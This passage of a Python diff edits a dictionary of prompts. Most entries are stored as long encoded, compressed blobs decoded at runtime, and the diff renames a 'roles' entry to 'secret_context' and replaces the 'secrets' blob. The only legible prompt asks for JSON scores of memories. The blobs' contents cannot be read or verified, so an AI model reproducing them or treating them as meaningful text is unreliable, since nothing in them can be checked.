iU~FBx~PE!@r?_ja{P{T!MEQvro>j|W%<$T{&Y11{<cdW22h>&FW23Gq`Zi_yokNNwQ+<EzR2`sAHJvBuU{j6<4Tw@LE%h9_@fnpY@Zrl)G_IMXAmM(+8oEOGdSBK$`|DQl8_?mU!*boJ8?={uTj(v31amum{H%?;{Jdzq>BWK6vc9k45aEIS+*Lm$?(l)1|&A&^VBpUN?{Zn$+V(@C&q@P{gxko#b3It*lMA%od$wmjX<Sph>u+ZAn+*E@|-W_c0KBOnb&~sEkK@iUAV(-^daz<{?Ggf1X9tUAfuzKU<B5;$}H!vxWz$OR}}fm!hb?3w(!j)?EmYPae}=!7*Al+Cqp83uX#i38)qa1PjEiYk%K)rtMmq?7En3CGK^A6jHrGGGVm>alp>D^fgSg0;<?CS?5YxQ1|L;_u}aVY)msg;rb@5cH$K#Z50N6D9enK%e%fnbUad3*z(h&Wj1-rWf>$r1;H@7U4c+Pg_e++PjBR4}uogd*6=LzPBnW~%)VT+lUMm+-T+~RuVAiHZ`Wd)Q@mBYNKFP4}b?sC;mNN64r2QvrqeA%_^0|w=P;N)WUUp<l$L!tx+dhi%m9y@8BV8aG*>)<x*0bNmPf*aa2ABBW6m=yEb(4}feT0fFeV2?y>?qCLAT?ZP$^7aGvMxqJ`hMj*4Po4%WO)K2CZ2~(l*Ap$E38zQTO)EM_E?SS>f-mhBqp?TD6>TQ<3Z~Vh|kkKf!NevTI+%IL8NYZR+1ouG8J0gU867BjW@1&76}Qs1+y{P|2G2C0PPsuY3AuD#%D&PcIgd2juw+2kC)-ojQq`U3PCd=6A&iDf`3q6nm1r2R`SA^r~2{MW3KRWQ^**Yt;R<qW}lNRXN^s*{txpxBRtlpLsI=tNaj+OFQTut%cA_odD)U63#CZCf86D(2C0GdvBBhbCKEv`!(sHQgUf_s!BeD}<R9crveg^NO4rzqg(W|Xx&CaRi%VKFerL$vdFEmLUx1oxjSsdDy8*C-&1uTE!`t{zjc5|(TIq(zp&&lApmNN(fO3}JcX)Rnpb_nR=<PjLxZInPt?pBwHo8k6IcZ61$>$+2WT7U+8G`(EGOe}tbU@;<J!C~gcIl+Hj8-x_KE6!aa}Zcr{X{~GYQI!qw#;(mHAHa@&}g<4+!eN@5%06yX5A<a+c2*}%)+e#3cgB`e3Ye!W1bRk5mBtzV+>y~a)erwE+M|$6u}Lpr_RqdQvr8a1s$k6PhT0*r#;~ufUTCZI9AonIlGN?6ThlC!6H04C++kNRIX>jX?WawTI;OGU8<alujf$eY#Gms@0%UL=)@-tVc`M`XVj>qCpjs1_b!EkQUL5^R8ATp?DOE9?D^mm98_n<Oy~O3&(tWjzw~QV^!O<=hfpmR=uVIFt5XlO?p4ls>^oX8h@2~U0s!Ty0=8I>OaI-m{0V>aMR&HJ?HmFf=3K5bqzVVw(!DJ!$QI_P{t(31Il@>5_tLj1Bs+EQP>ZLoA707f`f(c*+L&J~iKo)W@4OO$D>b%4v0{AqNoD2-<oXg^!Wkans+ClXmcF)f%A$buwD&!u6!pqx|2@tq@sS}xEvLSQfIt%yJYHmn{9zA6yHC^C-baQfjk>uIk@Y~(<#WT{R31Sy+=%J#6#HMAnUj%Tr<ItkbB&?1Lb{UcAN&P+>|K`rksI0d$*zeKNK2<YYh>{O_PS2;Wt_RT@VCHo#OV;f$E`dVc!E&Je;-8k2ZR7zs4h;Vnq_P#x{epdhr&{RQl_+$@WHTz`IkMsHpxjS@}SdHq*!6@&uQ8ZWcS_7xHWtj>e*qa&j5!9OFZP3(A@or<ktU3i=nXHZ<t3Mhcw+FFrIwsqLEe}KEp#R&#lp0A5iCJCv~pL9FH{nk4Q%J-_nJ~VpsDER%Qf&?C&$ecxc%y5ccIN#%E8QNR#h^;bBp09-cR4Iyj>Uv6F>Msld<1hoP$xG@s@yGVGs`y$37+RR{UB(c&}Ma8tB--%^Z}CnMB=HiPJISgAh|>vU2Y341@^`09j@^lGG7-gTt<WSzKN!HDV9Vnu5VOU%sIzYz+8%7sE-gXn!H$~5>=fjE_@N5v^Wg`q&WiPayDv8`@V=ZGcjGf7L>Aq39tiGi!r)xN!u%fzx=vx)TeY^X%#|NLYX1_7Ra@l|8~m6104u|y+e0zp2~3VkHTlC1T#H}7!Hhif$KkSrcaHF|TRTjdO0iI{_21kkg}VG=pqFXrW_O!^ff8*JL-p)av92AN;j7cX7Qm2a$kB9Q~eli}-uh#ETAjnFuH8Y(joUWzd%E<0Q$;X{j4kg-deed^K^u9X3Pc6(wv%4p*<S@{P)Ic!}*t?&jI_n9BV65-*w(Q>Uep2qkk{<Wq8qT=r<($Q=r+^~>pzL^2}YxwD6PMZ3t2Q-EreQEdOToJh0s7JS(bOAH?Ggr@%HEBFBQY8rFEdX0nT8RRqMEsny-|B__QR)A8W3V)#QSqRlrFO5<I@Hrp&9<^$qZJesn!P7k6YSJzkZ;{ZZkwv29RO?wKe+d_;&61JkOOl#P(t&n*R*WBLrg9rZ)$&$O5>>L5<*H~jA0*W=JiyFK7Tu1H>ca{D-WLP&793yGYFN0u!hT{JW<#Pd$T@?tESPm)V1?J8siTMWp46RJ*{!e>~l6ds55U)OKesyQ2eV~#2HITz%S1n@ZrA}13c5wn!IQ5Y)J?C2)`tJ?1A{6XJj^kFNo;a-l_sQ5!}NgTv<uMY7tUSx8cz$Vp%`QXdIKniLGBxyA(sCl*TIMRQ@tx&l~w|Na1fkHD28O+OCCfoP99c^-Md-?POUp=T>u+|7qf{H(#o<#SA5p1=l$MIY*qLam^b+7GS|^Mcf(D3__+uOt217)*59Iso!#Gju}qa00&-`q_?llqbaJ~QHsSyiu_Wg5Qv`@Vg89;62kzCa?XAS8X?+t5JdgT7#^9~^lpU=(uKLQc5Hwz7r&d@Q@9TV=(mDXsHee;hmxx3s{CQX+don-;0}MUmtPM%%$$}r$U1^Q;!jolFgCfmap&p>!vTQoC!=08lwH_OGY(N0bMJ9(VWuWK#@v;@hPlt-dM5`z;9&J9lpi;;1qM7?L4DOv0T<}0+o%L-lHN4vCX7lQT3ZtfrYU+qgO#&{bzwyY-piixt{0a-HZepsDdE27rceXlGS7r&hyPiTJbR2!Vd;9~S<CTWb)m|Q1m>x|9Nw>`OV#~RI{TQzMvH8U6XVP$<&YKIQNZ~crGCtimLBj6v?t0O@w_TYB-_;7cdaQn|I6(E;IpRxiRDEHm5S|3rcbI{<KFO41}2$#@xCg*Eudv<Ohw>Zzm-4#oeCLjuUQEZ-OOtZ`Bao|S=vko!y9v^k!SZK?&5m7eb-=fIIi;-UkUWE;riuBEBBkvMXEXw6_RGeCyT&=-5Wf5RK{{Ymfc#GZ6<o{p*yu5Be@^bw^*S|f+naFG&hI&a#>T`y7S`O`XzM9Sil+d^jo6GJo~Yv5p;jj6|mazasZW22BQ1)W_1}tMPrRaIdFZ6R(4k>)sA^aJFhK}-fMrh+JGUTUj@HG$fgKa65?iNG8&gEis7cJv7nd&nAnX@{nNp&lY0yCM4uU?bGEH&j)@`<(^H&#ZZwfslh+0sN6FE;MJvwS(AMMbumTKhwj)RS*L!F@*actZ-p5EYwQL*<&w#upkDLx3^qU;?WJ*sp5R;}Nh+#L*q7Vhh<5@wioo`_;Fnh!4ns!a8th#E3s%r|TZ6W43df9w~Lr!m4@+Wc0sQ+w%PJf(3X@In+@d@D8aj4VR(!kVKsw4CTVJ`=dL(aKWKi*<kCDMLUhR3x6BPS}NLyv!h1j&9C6wY&O$GJ8d!*N38nu;VV7Tsak-@#y0AKu-L;CnoWJY!iKmF_pB8Crj9V}4-cDU&EXa`PoWt-oqgAn*vewg~BaK&|p1dbQ`*)f(b2C{n9m8NCvOxtYO}0YJ(Ql!S(?uRd@w+~1poaw1<#_(L%+Zrh=>0^K+0OS)=V^OEg?TcP^0`Lwj31oN#Q>xBvu=Swdm>+es^=?9MeCp^L`<atXI(pBg9SM%UKRh%XtO8MTa&lfOu@vew@u7T}XS6kU1+j(9axX6~c*Qka^p-2et+J#gtj?3_N>&xO2yPaO-&mJJiDgX_!NfKNXWP(WA!s^B)<U*VUy?gK4rRf*j*XurZv*|c$QO~Zr6K)>i+ouwR$#b}<J21v<?>%T36-Jx;gK0rx*q>o*5OU;VrZZv<`1i8h>b|GTdH|`YV4{)^WZgqfLE+@xS0?>G|MD@}wg").decode(),
   'postprocess': (
     '# Postprocess\n'
         '\n'
@@ -1418,9 +1419,9 @@ PROMPTS: dict[str, str] = {
         'Answer with one JSON object and nothing else, in this form:\n'
         '{"scores": [{"id": "<id of the memory>", "score": <0 to 1>}]}\n'
   ),
-  'roles': unpacked("T>t<81poj4|NsC0{{SnR3Fl^uMokF*e{=2tsEsnCY?^HzrT)6U{Zt&_LMu=gbrD&V^F?sWs$N!A)d&C16M$X@!7e89a?ALMfNco&yK7~<)L1ttyICThc_?g$!@)U7_TcnJQ4B~$279m`HAZx<HaCnojG`GxU*rN{i63A_@G$1Iq}^0CM-td3hfOaBjMx&T8dY^NS8sl-d#P$};SIgD5~r>e>8*3AFacbpJb{#dCF9H&PT@3SLr9NO1qVvlcU3FnOgd0oqorZx>QRLZ1jMhD`J^jMKNn;x%Jv#Ve<o?yS(3eD(Kj3WC{N$MHKL`#Xj#d@k?jUcSF+P}BC|1!LKyl6HApMgz~O5T)xYAykD2Ic8~LbOEEuJ?sD|<B#0hB+WrRyCD%ZopUfs8!F*ud?^|gl@%&xk@Q$q(*rgQZ$uAF}A!lz~=3`SS{_cL<Xm-+RHDXti!YEnt7ym7QUgDkA(66v%?%rilxRVIgr*s1Ne&`A-kpoa1KWq2ukl?TgyeH)w+h12bndJXr|Yr0mgx^NL?uP0w`J12_j0LP9KV}v~ajj>=x04!p)4iTvTQs!iO9uDzD<Wxaae(@6yrV$l)Na>n!3xj8{mJKEUxB*^ut7Kwwm>9A(m`guKVs7&+tm{Pnkz_=DXe;#O)aovlJ-T;z-!hDlHWQHBxL6M|LH`k|{r~").decode(),
+  'secret_context': unpacked("T>t<81poj4|NsC0{{SQ#%Hjf`130KG+ApZcm9z{fNpGys(dvNpgL-xGu0pmh>EcXb79^lP{D7NRf4C|vsH4|G#@bKpGcxCf?J(D9#W@7CX$!B*8sm+xI5O33g<S+%w4uonVckCYv2a|L#i~A>NM2d4H^fCVk>qaZ$jjy}cyK)l1hzTd6UB*@Hh!pCJ9QUnO<Hc}48bp`y9e5IB`pUS=l3u(nd|UwD8&?!pgX3wc^4+{LqCpfl;OJzNRYsz@FSQeBHDH{8Ni3W9K~5(P8@QGs~qjT90o_YIu>a!9ys?_l-oA7VCua^^fZ8zL{tfg*5L9If4R!7RexMC&TCfbog-GKv;l-GTItB(gsZDe);*cFC(yRTuD|n#m0e{W1`&M7=*xjB+8@?N-oL^HTA2P)Z8U(^I+50l+^M)QKM1Tw4zlY3WRr+-mgefSyi%9na62xx+P!=^bWNhLK<ye(9-Uru`7as%r)yf2on#y3=*E4i#RxZzAUeZdaKP>|)~|Yad5~GBXONMLE-}jt8Z&0qQnf-C+aW-CP!^kNyJ@cHRiom{-(2ly-0GdK`SJ~p!FuX^Lt*UD4j!^@?j`i7$ZQd>L0SKr5hjG824#lHPm~e`-SRieUsOw&^#<=TF@@|=P7GR>gs<hgQD#Zc8Bs~7lKz4$DR|g(?RH!=&<bV{^BSB19lXhg%3~^ifxQ$IQ<~d_qXv7AF1QuOu4zlxvZvi#Oxd85+}`eTM`4_j#zB&J-8`#oPZo@^YZ<BdOT=teFr_LAyqQP%dQ7QJ+2GpCdyb*UY*6E9<k<2|bjc$xDY-Gq^6x8k8RWb#+9;{nEt>;JiDD~HZSIzr(66*@MmX5X3gqwXA{Z1#7dcfGR#`&4csEmWP88(yxI;8++Ai9!3n?a<n6s9drYF>bF1~b@^wdnnU-4%ZScC4?HcWjBDUkfg`d#@6dk{Cj*mB0J)Qkil)Tys!Ns!d<d{qH$tVC<v5s@h^Q+UBiZ2hg%3(-``Y=iL|w4bT{NrYw|DaNl_Nb2>SKvS2{BpTZ?q+On9DF=l=K1-LK#H_R(l&j{$wt6FR8SnU3*6%1H&Jw=JC`)tRN&VeRQWT9{udmPU%A><I2-b+S9pEk~7HpZw9~jO|F+#8O2Uf^+{3nn`xQ>bjnmbWfzG#j?FwSsAEw5cIlQ-qB?or7lp=Ttg_MZHh)+mmDcuWzT%4eP2nvZGPezp4EQ+lMck@`dEyKBu;W2S)mO=#a)hQ8mN><CB4`|(DGIj#1-es~Ng-ZPn@lvhFe<~kv8^)!r_UiD|RZt$To7LYJ)aLUy9aR*K^R04R)H!f?OLB5=TgOp@_1!kTJIqs1UdG8S#B5b;Jxgsm%kaiV<2Ft|qMsTg5p(hHD*SWxsTG9x>T9VTBX}+z-!EGh_vV+)FH7}>`VbRcfy|!TQBg*0BZs@|ne+Ki+*-;UiTa(0-%Wn`p{v>=rlmi6j3D&3pgCJz2Fs2eL1Dp1bGG%we$kSdbE0q#T_4;Yf$E_SygM0=2(D>c~O`7bNif$rMCUJ@vV%qo}ZL4N)aCWKg7$LPa<7u4110Th##+EAApOZO(#+n`JGC7?Kq3|s0m}(#$KQ#p8u2s3`m8%}8t;R)$^o#FG#uGqgbz<q38M4~yPyv$3<z5*73XO>5Mey_|@K^ZIw<YP;B2bkt`hn5cJFti--78E=bmy+wO~Q%O+^^xr9u{rg6mh#hOeYMho3<$yzP^qd%|?a0*^nf--kC*8eB<IF1x}EKWBhbWmHk<fVc!G{{X8v%`0-Zbl^Fk(nHlZjA}5*FQ9r5nFzH)Nfl&g-9YuT)SpHYmDfgR+Q!)q0>qSmiT7BD#iU9(a`wy$FdUX)yp@iX;tVB}}X`jEsC+9JIZ}V``)c<9KIjYE>(vvxMct_uFUV~hqSNN+yX7pcWtIx_QDiyI}r*)7V<m2h}<tRckBMZ%^+)LL#>a+}p!yQFRdkw}}fvw6giaPOwMGTh!MdY+YIs@U+FJao;f^|~CXtktTME$pFffgPW<v1cCTN&WDo&wuP^mzI>M6Y9H-7>Yb@v#vO8^tH-O1kp&=FO$gHZZGIiP4}+zKqbRhqu6rGH4GrK=*CTR?l6VGv*E}t(1#IiZfPqWU@V55bWT$BnRr7vFyev1bS{L6Gc}0NTD|K6x&bq7pI(h5Ma9)5-^BRJmwS}nHOR`>VW@$K*Lis^s2r~pFEYD{eomqjz$h*3}=Q5Wh!Me^g#RyZhFeFA`KuTOBY?U@|g$TplQAAz@CaJQxp0E|F)DZf6w@TrO5ew7Y_G9zOxW<IUAhB5}9&$$82SS8SHPHxrj_DHjGt?{yOP2V%(+AO^A)$>tlzZf4X`t8BZARZYJ}(tT5nq;asU=g-%z%C)%;bmzhiC!O!l!y%0$YeMKXx1#6-)<zO&lHeudo%r;*Y;&&TB4JY6~AfjMXu3GXiFSO3|teYYMeJU<|(P-3tU}T3UEs;Rz8~nLLl`vbCNUqZ@(=Pk3NKKOwLQ46zHd3xM>unLMxI83Sj~Y%TVF>3gj4H#)3yn9zlw#Zz)v^6lE#DG(xzxVa<Uj?HTss_(ulC<Bi{;l6h-r3ZJUO-Qy|!BNOL*C7&(3a(IfqxmAR8=>2&@CnE_Ov!)bAXpl9r$$;PeM!+tb2?Zi?(HgM}~|fiz?Zd-`82!gpD34|%>1Z#)&F4zWDBIQ$x@-*h*QA&6|{?<|~}vEwc&j`*<Ld`_g`G_JVQz8WCs(j)UF#j^5bk?t$r^vW6F_+z0(0}H@Y4TQo#zm}}h@=Rse3b||G00wh_b~2t`+7`xIhv|=F9PcvH9d>2-ApCXRCDJho0Jo;;<-;-Zeu<lsB}0*dknsLbP-2u<euZ}HxoA|>mpq{)6HQ#37u<~3glGUlnWZlmG*#0{$YsOguo&YL{*|eRdLO~0<dN~5S<Uq-`@){?^<qpn$WT>lI1p>HM)u7=VeUDuDCUhr*<j1qc+@VFhM*s0{$t?a+K6V6GQt5X_PPvRL)_DkQ;MOO2mvGYBcDLM{%Es2L+JaWrCC@0j#+s#N;@D^Sh%ZNZS)t$&4Vt9u($vESAd-").decode(),
   'secret_forms': unpacked("T>t<81poj4|NsC0{{SN!%0};)KGa?(0Te_(DeqVRke~M1YkPQZovn@+^+#qvvR2H;{Y!lnXF8}lpe=v~*Dre26a)wKo-d@3uI|)gjizr?qLSK?YGP=2DqP`#KAbnjI0K77>P~;=T3?JnzJhy_x@EQBl88=TqeAp6Uk2YH42y~B-F~_+HQx4LRwjlF9%lY3o%x_H;Mu5`L&_mcNj4bvcX_ZCDr2{r40@*uCdwmaQcVol9WQi(*%*nAZ0ZfTH1U9LANbOKxTC<i1H|8RU}gV;-s*?N8S}GWj#8ik0lrG02l1tsx@Ym|P`VK9^9wK9Y+IEe<d1iyqWEZt^+<J&uyWCK3fv>#pHWyTU-zG$n3-!eS=jw==Yc@Iudb$7p0`YN=gE8!hvbkXv^rj{E+~pE!L3=vEyduz`0Xx#$bpVUSR-3Mq3t$~Y>9)#{j59X=)1&p4^iLpO4}ah4ztq?!yCt5Sv?%OJ$(Dn&Omn+g>uoWHNR*WQvasld%f|2!IoC%0yR)%KxH)A4=uc{SaKk=hS$8??=?G+8M>ue$9vvca~e@+9<Gtn<C{&+X@ms7C}RsfQABYm|9z2DuaDOS!vkyd_R;{VP;z$!cv3^!j}J|7x%fo)yJ*Enfjr+TAih=#MrY7staRg4!f$VyD2P@leCKr%_;zw}3H)fz`l^VR1B!;gt<zR-APpL)|NV^Y^(ui@TwIx(^$1^G#o6Pu>bXYe0KxZ(`Tc8G2Ao($$J$;@M9>Gm#vKbY3bxv?!7mh=e#3&)ojmRUTY|Pvq9SV4fVoelbTC)nwpuMJhF$cvkj@vK4W)wev&Sl^7sNDG*cFB*Q?-+;;CzQQv0fepqvGsx)g~2?N3w~ygt`y_#SOES(Xub0;(x)u^pLD-7!5V=sT_etLXNHPa<fH`E9e6ZLQSa~JQG#T)G2?nAJg5@bSv+9u$`*(HGd)%^czuNQVeR>o2<$BLh0DVxkE6-^;I>3y}Ni6O(RDwy*FzqqfF*sze(!FZ-PSFQUebjBk2{}A7}-nGP+NBryq2OuVnwLX>38Mh=c<^koYA?o8zS2>eSpfCW=??VurADB`GR;7`l>hKAKZ87K~4uEChMNbOqb~BpBj;CF;VQ*@r9=VO$$*><?SzlkMk5$YN*`T*gKKfWjCQktqtV@`j$1Eg4KKm`5>~{0|NQ`%ei%1`n1S*#cjURgV%JF;QL+iA4FZc!y~#PfS&_bgThmwqJ#vX3gr!L7ekDHwn5WIMO}Gqq9;^%*(jHxqGyXhmz!c+X47Jfw7}(EBGrd@Izmevw=-X%5YdvXAkPOU3CAc7qER8Aj`{Z6WdG<J<wwA=#bJ8r+3QuFb{Q{P@4jA+wmq|m2G!aLn2|@M^WdHg1is=*W>(&WKO2{SQBs=j>6fGER<3Z##=)v%IiJq-W}S#b@u-A$mjp{KVM$}q3<P8mIX=XDEao!=xRoOW%Q>mFR-dNTb7u_5B8U|WJ=CXjZsj9f?Jl_CsC!^@FWI_C>NP9@|S5hSOQV7F5*|}DeB^gtu@lGQtyL5RC~mcTpTga2F)V7b!I2_!R;6|43WpV@9*>Mah0~>!%X5R3KujEOP*l;CK`GXnndW_C3~Kv1h%3@)+fcS3mHL1qR4mFqU`s;NYw|yE7Vu2iZ*M9+d-6n)ahl)WgoCwi8)Vo-RJ#Y5nwF#!C+J^>$aDWcD(|Jdk9v}@e~dIs>j9pNF+{ek}rK{M~nzhLY#99M_v>3K@D#Ss;M3ZDJ$UWh86j4Iu3eH*rBTDHleE8Iidm6@vDO1jMEO4AxU0X=OkD84~+r=<jb!?r4NnO@<7!%pmM&~t!L-k{%&eea&3hcHagyyh`}U`EG@gsNU-tTrzDThsdf_k)00+FKU-;~gy|VcyTOEAVrM{wu%utp?b6yac`t?Q-|n4<>$-$AJ^_;D`AzLLY1%V&(FVp)=hJ$&xGM7}hd1B3H95Bs^I9uaye^zng8@g^UI)O9B!p|)J?kRIJQM5S4BUdz_^%GkzJ~PqY9|}r9@{2p98)(&y<gFGmNZ0tbfI=(f^S;APwxV}+GEn8>DT*RhuWJW&D@xA?9oFzL=IDCz-^Xs8ckYd-3~La;rl(h9pf623L`38zWtMBlJRi}`tC1}0$xioDp#6T=7k*nNWshIiSbrmH2Wzw!PtKVAT~xh4bMQa*vbX-gaGF;2D_FP{hW9gbO^G-!@&B`-S;Y&P|Z5lfA&G}g+THB2fJl>YZdNvn`AXR4WyqpV=>3)&wQH)Dx_=s&{A^+P*=uvI6eIJ1jm(v(!7ZC{H{UF?&>HyTG%)|vNc9F$7pZqHT)ht6Y0*|1WPmv*gWHx^+vz#uflIEn~r!STDeKBByRw2>x$cv$J5c9r>!}au2Q-p;w(vHX-Vc5sxe+m3KsRD{PXgtOA0iXXE;Bx2ac^BI}Q|Z<B8_8V$gG7o?qGed&I?CbAJc@uUiMDM=4ZciKj|C<T-YG^e)D7*OMrqWT%%)J)*6vSV4KmAj0tRmpFL>5~X$K>Wi;e$>uc=mcdK1NiPhE?f&l;w@qA-3U$75N%`lPE5|KfR0e<q4+0YGUp&lN3B0je9gTN19)3>NqRjFUy}u^U+XRyVBBfA^P}1I#Jk==OZ#F=SUi^V-4#TFHP0v7nts$3yFbEfddpM9)lRe3ay-0E_t}OLfYs=?Ok)&M2{qZdfJ99%A-wmiE@E=Fn1OZw8#F=Y_cwlgJeOk_6!GU8y^eeV<tf1tN_YTYOMJV&W={`F1Y>fnt63gq`VR|l4vzj*4oQB6mz(sz`ac<Uq1&0F$I7$<(JRl*ng>ImPj`W_|N6$`0>-JGh04KloOT=R4q#CnNB+Jstx$fCf#n>~b*8Tx&JoR@4xtR$@p!^5+p0jMT#zUO<Pe5G}mdl%ujk+mpf%u44Q^Fsesh8TmXR^+>vfv98HYVWL>M>{hf5eOX2Gwvp8hE6?Bsfk54Oz1yl&(4`3X&H8{5mf=").decode(),
-  'secrets': unpacked("T>t<81poj4|NsC0{{SZ&%BKL8>dmgUc2C16(;_ER`kXGWM15+6Q_R0L){q=x)P!;0oF(*tcx{Xu7Y2+Pme7Vz4kY*1{2%pYf?I#Lq;fiqcR^EHt!h_)$SGLbD{H||>syMo#>D)BzjmJ&$YJAIbBV@caU6w5pz2D<tIU6JEO)iXjibv_ChNRk9=_y<#usjFa9Q~^2hF8B7Jo)q_e}=_UlDnVX&YtRVzBMX-H#;@;&ZOpfk-A2!h<-^f)sGR9OWAd(X_@<m4B;0TDa^vmu<BH&QD=VU^`{KX{;2^eRWBsrnKwM9c>Kf^}ZNlUKCCzoxhyKRL;IW8Tdiy-~EjhrjCojTz>#in9Ole@+Tn5P!IlIT%`&$rY#>kg!LnokyK}4fxB2xCQsJlmU-4rNXyQggHt{PSFpy4!fc@oB+SF+4PT8yAZOV|0rodCJ2pp9UDy1nc1Eg1oEw%Y%2d`7QX>jUCMtIsZhG>mU6w<e=+uZ&7nIOrcZMEccC6-_@G~%UQIaa*w6PHfKzdJsO+$;kPb!`PlaVx1Kq$w$Ox_$NQ#IrE#dnGEgn&&3ep`L57A=(f8>}e_`0ol@*f#BgMhS@OOt7+8spLTR=mjE=zuic&D+}DL32x;Cx6e>@gb{QlH;z0pigi?Ud1^zJEqHSvhY&Ya03L;npOW7ZQ`CZjF*3L2!4Mo#^}4W~1Sguuc)oW0BOhEmsbDtC&jOs)tA#e=@NDaRVqk4}y$$X1G5xtZr`g>)MNBq3U)S?{gHjQYK%bPbOlJe@bPNPn>+)*$wCFvoaaTf9XJ<>lu1{qZKP-G)OU>pKUj{fhmL5k!Dq@XqJeWbFeza>8e2u#F4lTs8K+w0SmAfr4N)PSv_n=M%PA*-cv)DSQE&l|O(GkQvFLmWkwl?O6{LCY@j9Fp&q^Q(3;Pc@5Tg|sa+OG8!OMv)}Q<1WeDqzv|9T_}UcQuRSLh9~(s}mK03K5x@81T*^IjpX~HVvZ+2o<NUk$;2D51kAGms-h}tR<#Hc~EnddF5sd-rSU1OHEx&`KUQXWaX3GN79U_99cta(bZ;U%PRiRCF+8wkgo2K5>ivFxKnmly{Wo%omCR-CuI`pPve?)R(}?<ub?gCoE?mG;ju--MH)Ivonb-JlC>XL5=C*sxmoJN5>$GYtcVFz4ObUJjAx?<45236TmTkaPR_tlz;GbGqkbPOG>L6P$ew3_BszmtU;B8D4(iRM>g(YvG_LJIa2R@dKB~LcCKKUWFt9^HXe@;nhd=2&?;+m($HEp}FrRVpb#}cjh$M`eBIr=kRM2&vIZqoC_j?|Wv{^Q_A5Id7?3oFT&e+4E^#3+{Z3SH^#pf&NZ%wtFRF70-eL4we8w6~w`!~ZO_?!R<RISfez(-`<eztaFlm+pfi{`Fz?rT>jp#h7hS(-Y1sSr^Vsimb9|4I-5M%F-M0JhCpqsRt$cxP@hMXs&9YcN0BZD@=`cLtrYIcr8OMBQgPM-HmNyLId``NqDG<2aeW>o_%E)i4pIO5#+W!a&0^4y6*wI2UKF>pDvFfR2KM8kb1cGJ7I{^M%Q}Gg3(I!^l3+WKmz{DtBPPD*q!AM@{(gLm%Y;#a)ATA<h-Y@snGElB<y-8PxQnn$@}334`AiTUH$kXE;?-uB+#ap&Pzi<h%8%JGKpo!NCo&9_tmjckC4kyKzfK+fy7fP|TR^Q_a0cep|J4AKUX}s5>kGpVNuJ4(;+ERD%U9c8{#Z<h$6(=^r^YTB{E>G~Z4~;7Puz=@kCE5pl}46EIP~7)lw$hv9kEtLJIxwalR-q0{5kE<fYt(yV<SF;-i+=otjkG-~Q|G!GS7=$;eXmk;XYeDK3^tdIs1RICqQ)IfJ2_uU6gl?BpxsU4kIQz=i_rAC{|Ya?Mc3rRCv))D$_#uNo1TZ<?^m8Vd>07X8r_@Xf+c2*i<zeRT3I<_cZN&dF)Qd%5rjfP|KVQZ$T1WxaHE^8OUdYfy1W|A!&XB&}WtAz+1CL!paZ@%cxe6?kxW{PFbk75g8e_+XRcdv^IaQXWL`(Tw6keI6J9YmmK1lDrP{-RR77U|#Pu4G=#DH7!}#j19Pl^Ei*pNW>a@g5GrbocHUlPbN(8$)i{i&Od+0@i67QI36Nxaq1mq@vXU#XT~q7rV|uE|c?dkm&<^d31^Ov$NC#IG=!RZ-wNK>VvDWSdNasxpM7{962eB4e*EVpT~oL-5X+tAd(%#OVbnz{<b+9dD*h2kra1uf2QOE;T4SnU=UAhTb82M#zNab?<0gDY(lsE?3b^&z8d4Bm(?6EKFMM|L7Ms3q{tx#VAz)E0$J@X+J=W+iorh-R^Ix2)UJ`C4M(aYnMSv)8$?r;K&&ZH<D)jt|HGueYW=|Wc5*vtjmlZx)VBIuA?I~Bju_Q#7kRKDk(N)%2SabV9#wP|!JcJKX&vXzGcOv&?0K1U@*C)_$UTS}mmhE|l-oT@+hdm7F==;Jho>3Xc(7~FU4&n2rat_%6;hE34qb6yr4o;Jh0MMQnq4b>Q$==NvK0n1g{J2Gd`|Cgz_(R%(r-w2&=p7WH&A6TGDm8h@JRV|(=`$<goFRkUslt~@@S1D!ok~G)z0_JRCZ5csrt%sqk9M$Paz5uzsRtoOvfb=03;O}11N6?T~AgQozE;7acQr>IW>t%q~fb^I2k-t7=a;D5EX%6Uvo&G2f)`NQ6b`~otqX$C0?onYP|C_SmDf7nxv?dLCpu32a$o$L<v&-^M525{?H8+0rJ@)Ntrb=i=V(`g}*QcHaqj@>VB&6SJSEmI8zMdQ|6-RskBf8T%pYd@orj|qX679w1uUv8-RCi3V=BqEkApl-rky{2b<z?ut&DjgS66j@t3e`AR>&RToI{bNl^FETc(NapdAwtFXndT*Ub{GSEmrlqZqcF0t89s_cLJ73nGTQ2%l<p!gCH<6k2MB>GNNp?x9GP&D;&JX<ga!ML!FX)-2oyW^jA2c3eexyz&+DJzZ{T@@xAZzU6(9{I(VFWYD&8rc~OS(@pw_(@<`~r;zgS;iA^-;4j3#;e%iWSo*9UTA)g1X|#Ux;%of$EvWzI&~>W").decode(),
+  'secrets': unpacked("T>t<81poj4|NsC0{{SZ&%BKL8>dmgUc2C16(;_ER`kXGWM15+6Q_R0L){q=x)P!;0oF(*tcx{Xu7Y2+Pme7Vz4kY*1{2%pYf?I#Lq;f|IH^FC2x=dfbNcj@<!jPl1(igJ*Kqa*RfsL(iV*Ha=R*6e+6AIn5#VHv;Xa_MdaoNa-#2ekfW7N9p&sGL9{c{<i@L&MXC@rNpKzb)g)$zj&yTVBQlK#8b;O%;WmvSzrgvh;?{<I;*-w>wEF}&(?1yn{iI3oW02s2w_Cie@354}ta`=(a_HEvnmoo;Y6OVYk{A1evFbZR4&_Nj{_86W`J{<~iG=6N5efHrZ6+l0-_0`g+=9>;^>6VeLCZ4=kT8>|@YvJUR8C_$d08H7G<nPXgTonOP9%o`$yhzhvgbr_WRGCbDtY%O{M2HG1}KbOMz!VNUTPKC6|nBlO!AH_R9^9dc82>j5xiXWi#Y?8sQl+>*K&(U+*CPYc>7a>MUYX>_*IXHrEAEjkN#@7Y(UcMewd!?FT;9N%i>u_o?<PR`dFCiU4^q8mfiu9W{x?jlKU?;qVBJf@B==?$@k^3gVh1`s9IM93F3eKuJf-T=l<!R~K1&J(lftuK$a>M18vvK2S{~4H94hQN5mjL6?xLk89I4gkuu~}AR;drTfbnY76xAh6N^oFSmZh$20?zWNVv2bcG6iZ=9L-C{gp`VK3o#BG<T#j+cZ;lUu)-+?oXqX+u;f9@{@3_&)x~;FhoAi@s$`V&C8yQfNwyz+<1&Rr$@_Nw?Uf0)BF7|O5k>d5GGp(iy?K=tTw(-^0dT$IYV4}xd*4sMR2=XBtn$p4x$_ACUDq)lG>yS{|vNSDc+UnIJ<+$jI_73k2#cfJcEQJ5`P&c-RZz)JYM7}2^2jH~YMNJ-~8;r*MA26$`D-X%0Qsu|E1~rS;9kHNx>)4)qI(P`$om2ZUTBLMBQOo~eEKO>D<>-akIWA*>_*1U)NEhE;;TVijfbrcnj%Pi)D=%7^4adZgRax2Fx}e>CxQo7g)g!*(FRRj=RX!vrCFJ%bzJ!